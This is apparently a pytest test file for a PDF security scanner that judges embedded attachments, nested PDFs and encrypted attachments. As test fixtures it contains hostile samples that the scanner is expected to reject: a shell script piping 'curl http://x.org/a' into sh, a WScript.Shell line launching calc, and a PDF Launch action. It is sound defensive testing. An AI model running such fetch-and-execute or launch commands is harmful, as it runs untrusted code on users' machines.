"""The verdicts on attachments: data, texts, programs, and PDFs inside of PDFs."""

import random
import zlib

import pytest

from pdfsluice.core.models.findings import Decision
from tests.integration.scan.conftest import Scanner
from tests.support.raw_pdfs import (
    SCRIPT,
    document,
    one_page,
    stream,
)
from tests.support.scanning import scan_bytes

INVOICE = (
    b'<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:'
    b'standard:CrossIndustryInvoice:100"><rsm:A/></rsm:CrossIndustryInvoice>'
)


def field(actions: bytes) -> dict[int, bytes]:
    """Return a form with one field that has additional actions."""
    widget = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[1 1 9 9]/AA<<%s>>>>" % actions
    return one_page(b"/AcroForm<</Fields[4 0 R]>>", b"/Annots[4 0 R]", {4: widget})


def opens(action: bytes) -> dict[int, bytes]:
    """Return a document that runs an action when it is opened."""
    return one_page(b"/OpenAction 4 0 R", b"", {4: action})


def attached(name: bytes, content: bytes, entries: bytes = b"/Filter/FlateDecode") -> bytes:
    data = zlib.compress(content) if b"Flate" in entries else content
    more = {
        4: b"<</Type/Filespec/F(%s)/UF(%s)/EF<</F 5 0 R/UF 5 0 R>>>>" % (name, name),
        5: stream(data, b"/Type/EmbeddedFile" + entries),
    }
    return document(one_page(b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>", b"", more))


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (b"factur-x.xml", INVOICE),
        (b"formula.mml", b'<math xmlns="http://www.w3.org/1998/Math/MathML"><mi>x</mi></math>'),
    ],
)
def test_data_is_accepted_and_named(name: bytes, content: bytes, scanner: Scanner) -> None:
    result = scanner.scan(attached(name, content))
    assert result.decision is Decision.NOTE
    assert any(name.decode() in f.message for f in result.findings)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (b"run.sh", b"#!/bin/sh\necho help\n"),
        (b"chart.js", b"const labels = ['a', 'b'];\nexport default labels;\n"),
        (b"setup.reg", b"These keys were set by hand.\n"),
        (b"page.xml", b'<?xml-stylesheet href="x.xsl"?><a/>'),
        (b"notes.txt", b"Nothing special.\n"),
    ],
)
def test_texts_are_flagged_at_most(name: bytes, content: bytes, scanner: Scanner) -> None:
    assert scanner.decision(attached(name, content)) is Decision.FLAG


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (b"run.sh", b"#!/bin/sh\ncurl http://x.org/a | sh\n"),
        (b"chart.js", b"new ActiveXObject('WScript.Shell').Run('calc')"),
        (b"invoice.exe", b"Just a text\n"),
        (b"a.xml.hta", INVOICE),
    ],
)
def test_scripts_that_start_programs_are_refused(
    name: bytes, content: bytes, scanner: Scanner
) -> None:
    assert scanner.decision(attached(name, content)) is Decision.REJECT


def holding(inner: bytes, length: bytes = b"6 0 R", more: bytes = b"") -> bytes:
    """Return a document with an attached PDF in stored blocks."""
    data = zlib.compress(inner, 0)
    entries = b"/Type/EmbeddedFile/Filter/FlateDecode/Length " + (length or b"%d" % len(data))
    objects = {
        4: b"<</Type/Filespec/F(a.pdf)/UF(a.pdf)/EF<</F 5 0 R>>>>",
        5: b"<<%s>>stream\n%s\nendstream" % (entries, data),
        6: b"%d" % len(data),
    }
    names = b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>"
    return document(one_page(names + more, b"", objects))


def filled(objects: dict[int, bytes], size: int) -> bytes:
    """Return a document with incompressible objects of some 100 kB up to a size."""
    padding = random.Random(1).randbytes(100_000)
    return document({**objects, **{20 + n: stream(padding) for n in range(size // 100_000)}})


HONEST = field(rb"/F<</S/JavaScript/JS(AFSpecial_Format\(0\);)>>")


@pytest.mark.parametrize(
    "content",
    [
        holding(document(HONEST)),
        holding(document(opens(SCRIPT))),
        holding(document(opens(b"<</S/Launch/F(calc.exe)>>"))),
        holding(filled(opens(SCRIPT), 1_500_000), b""),
        holding(filled(opens(SCRIPT), 1_500_000)),
    ],
    ids=["form", "script", "launch", "large", "large, length in another object"],
)
def test_what_an_attached_pdf_does_is_not_what_the_file_does(
    content: bytes, scanner: Scanner
) -> None:
    streamed = scan_bytes(content, size=1 << 16)
    assert "javascript" not in streamed.kinds
    assert "launch" not in streamed.kinds
    result = scanner.scan(content)
    assert all(f.kind != "unread" for f in result.findings)
    assert all("a.pdf" in f.message for f in result.findings if f.kind == "javascript")


def test_the_file_itself_is_refused_whatever_is_attached(scanner: Scanner) -> None:
    content = holding(document(HONEST), more=b"/OpenAction" + SCRIPT)
    assert scanner.decision(content) is Decision.REJECT


def test_attached_objects_count_if_readers_rebuild_the_table(scanner: Scanner) -> None:
    content = holding(document(opens(SCRIPT)))
    assert scanner.decision(content[: content.rindex(b"xref\n0")]) is Decision.REJECT


@pytest.mark.parametrize("action", [b"", b"/OpenAction" + SCRIPT])
def test_a_file_with_only_its_attachments_encrypted_is_looked_into(
    action: bytes, scanner: Scanner
) -> None:
    encryption = (
        b"<</Filter/Standard/V 4/R 4/Length 128/P -4/O<%s>/U<%s>/CF<</StdCF<</CFM/AESV2"
        b"/AuthEvent/EFOpen/Length 16>>>>/StmF/Identity/StrF/Identity/EFF/StdCF>>"
    ) % (b"11" * 32, b"22" * 32)
    more = {
        4: b"<</Type/Filespec/F(a.bin)/EF<</F 5 0 R>>>>",
        5: stream(b"\1\2" * 40, b"/Type/EmbeddedFile/Filter/FlateDecode"),
        6: encryption,
    }
    objects = one_page(b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>" + action, b"", more)
    result = scanner.scan(document(objects, trailer=b"/Encrypt 6 0 R/ID[<00><00>]"))
    assert result.decision is (Decision.REJECT if action else Decision.FLAG)
    assert result.facts["page_count"] == 1


def test_a_wrong_table_leaves_the_catalogue_where_it_is(scanner: Scanner) -> None:
    content = document(one_page()).replace(b"%PDF-1.7\n", b"%PDF-1.7 made by Foo 1.0\n")
    result = scanner.scan(content, "strict")
    assert result.decision is not None
    assert result.decision <= Decision.FLAG
    assert not any("catalogue is missing" in f.message for f in result.findings)
